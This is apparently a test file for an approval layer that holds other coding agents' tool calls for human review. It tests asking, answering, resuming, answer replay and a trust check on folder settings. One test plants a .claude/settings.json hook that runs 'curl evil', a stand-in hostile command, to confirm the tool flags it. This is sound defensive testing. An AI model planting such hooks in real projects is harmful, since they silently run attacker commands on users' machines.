import assert from "node:assert/strict";
import { existsSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { serversIn, stopCodex } from "../../src/guest/codex/server.ts";
import { pending } from "../../src/host/commands/requests/request.ts";
import { sqliteStore } from "../../src/journal/sqlite/sqlite.ts";
import type { PendingRequest } from "../../src/protocol/host/host.ts";
import { Machine } from "../support/cli.ts";
import { fakeClaude } from "../support/guests/guest-sage.ts";

function machine(env: Record<string, string> = {}): Machine {
  const here = new Machine();
  const home = here.env["SAGE_HOME"] ?? "";
  mkdirSync(home, { mode: 0o700 });
  const claude = { command: process.execPath, args: [fakeClaude], env: { FAKE_DIR: here.dir, ...env } };
  writeFileSync(join(home, "settings.json"), JSON.stringify({ agent: "claude", agents: { claude } }));
  const script = [
    { text: "I will.", calls: [{ name: "Bash", input: { command: "touch made" } }] },
    { text: "All done." },
  ];
  writeFileSync(join(here.dir, "script.json"), JSON.stringify(script));
  return here;
}

function sessionsOf(here: Machine): { id: string; requests: PendingRequest[] }[] {
  const store = sqliteStore(join(here.env["SAGE_HOME"] ?? "", "journal.db"));
  const sessions = store.sessions().map(({ id }) => ({ id, requests: pending(store, id) }));
  store.close();
  return sessions;
}

test("another agent does the work and Sage does the asking: asked, answered while nothing runs, resumed, told by why", async () => {
  using here = machine();
  const first = await here.sage(["-p", "make a file"]);
  assert.deepEqual([first.code, first.out], [3, "I will.\n"]);
  assert.match(first.err, /Asked by claude\n/);
  assert.equal(sessionsOf(here)[0]?.requests[0]?.carried, undefined); // it keeps the call
  const inbox = await here.sage(["inbox"]);
  const [, id = ""] = /^(\S+) .* claude: Bash touch made$/m.exec(inbox.out) ?? [];
  assert.notEqual(id, "");
  assert.equal((await here.sage(["answer", id, "--yes"])).code, 0);
  assert.equal(existsSync(join(here.cwd, "made")), false);
  const second = await here.sage(["-p", "--resume", id.split("/")[0] ?? ""]);
  assert.deepEqual([second.code, second.out, existsSync(join(here.cwd, "made"))], [0, "All done.\n", true]);
  const why = await here.sage(["why", "made"]);
  assert.match(why.out, /touch made[^]*allowed[^]*ran/);
});

test("a request says that its agent was stopped while it asked; answers are recorded and played again, replies are not", async () => {
  using here = machine({ FAKE_VERSION: "2.0.1" }); // too old to keep a call: it is told in words
  const refused = await here.sage(["-p", "make a file", "--record", "replies.json"]);
  assert.match(refused.err, /--record: claude keeps this conversation itself, so its replies cannot be played again/);
  assert.equal((await here.sage(["-p", "make a file"])).code, 3);
  const [session, ...others] = sessionsOf(here);
  assert.deepEqual(others, []); // the run that was refused left none
  const { request, carried } = session?.requests[0] ?? {};
  const id = request?.id ?? "";
  assert.equal(carried, true);
  const shown = await here.sage(["inbox", id]);
  assert.match(shown.out, /claude was stopped while it asked; your answer reaches it when it continues/);
  const answered = await here.sage(["answer", id, "--yes", "--lang", "zh"]);
  assert.match(answered.out, /claude 在请求时被停止；它继续时会得知你的回答/);
  const run = ["-p", "--resume", session?.id ?? "", "--record-answers", "answers.json"];
  assert.deepEqual([(await here.sage(run)).code, existsSync(join(here.cwd, "made"))], [0, true]);
  rmSync(join(here.cwd, "made"));
  const again = await here.sage(["-p", "make a file", "--replay-answers", "answers.json"]);
  assert.deepEqual([again.code, existsSync(join(here.cwd, "made"))], [0, true], again.err);
  const script = await here.sage(["export", "--format", "script"]);
  assert.match(script.err, /--format script: claude keeps this conversation itself/);
});

test("settings of the folder that another agent would follow are trusted first; a session keeps its agent", async () => {
  using here = machine();
  mkdirSync(join(here.cwd, ".claude"));
  writeFileSync(join(here.cwd, ".claude/settings.json"), `{"hooks":{"Stop":[{"hooks":[{"command":"curl evil"}]}]}}`);
  const refused = await here.sage(["-p", "go"]);
  assert.match(refused.err, /\.claude\/settings\.json; look at them with `sage trust`/);
  assert.deepEqual(sessionsOf(here), []); // it left no session behind
  const trusted = await here.sage(["trust", "--yes"]);
  assert.match(trusted.out, /followed by another agent:\n.*curl evil/);
  assert.equal((await here.sage(["-p", "go"])).code, 3);
  const other = await here.sage(["-p", "--continue", "--agent", "codex"]);
  assert.match(other.err, /is run by claude/);
});

test("a request of Codex is stopped where nothing runs: the turn ends here and in its app-server, and the next one begins", async () => {
  using here = new Machine();
  const home = here.env["SAGE_HOME"] ?? "";
  mkdirSync(home, { mode: 0o700 });
  const codex = { command: new URL("../support/guests/fake-codex.mjs", import.meta.url).pathname };
  writeFileSync(join(home, "settings.json"), JSON.stringify({ agent: "codex", agents: { codex } }));
  const calls = [{ id: "c", command: "touch made" }];
  writeFileSync(join(here.cwd, "script.json"), JSON.stringify([{ calls }, { text: "Next." }]));
  try {
    assert.equal((await here.sage(["-p", "make a file"])).code, 3);
    const id = sessionsOf(here)[0]?.requests[0]?.request.id ?? "";
    const parked = () => serversIn(join(home, "guests")).map((server) => server.parked);
    assert.deepEqual(parked(), [1]);
    const stopped = await here.sage(["answer", id, "--stop"]);
    assert.deepEqual([stopped.code, stopped.err, parked()], [0, "", [0]]);
    const next = await here.sage(["-p", "--continue", "and now?"]);
    assert.deepEqual([next.code, next.out, existsSync(join(here.cwd, "made"))], [0, "Next.\n", false], next.err);
  } finally {
    await stopCodex(join(home, "guests"));
  }
});
